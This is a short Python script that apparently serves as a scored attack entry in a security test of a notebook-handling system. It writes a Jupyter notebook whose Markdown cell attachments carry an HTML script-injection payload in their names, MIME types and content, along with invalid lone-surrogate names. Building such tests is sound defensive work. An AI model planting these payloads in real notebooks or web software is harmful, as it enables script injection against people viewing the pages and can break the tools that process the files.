"""
attack: attachments of Markdown cells with scripts as type, name and content, and names that no file can hold
after: scripts in the page, and a coordinator that cannot write the notebook
honest: true
points: 13
"""

import json
from pathlib import Path

SCRIPT = "\"><script>alert('XSS')</script>"


def submit(folder: Path, notebook: dict) -> None:
    attachments = {
        "\ud800.png": {"image/png": SCRIPT},
        SCRIPT: {"image/png": SCRIPT, "text/html": SCRIPT, SCRIPT: "x"},
        "a.png": {"image/png": "iVBORw0KGgo=" + SCRIPT},
        "b": {"image/jpeg": "\ud800"},
    }
    source = f"![x](attachment:a.png) ![y](attachment:{SCRIPT}) <img src='attachment:\ud800.png'> [z](attachment:b)"
    cell = {
        "cell_type": "markdown",
        "id": "attached",
        "metadata": {},
        "source": source,
        "attachments": attachments,
    }
    notebook["cells"].insert(1, cell)
    (folder / "mod-1-lab-1.ipynb").write_text(json.dumps(notebook))
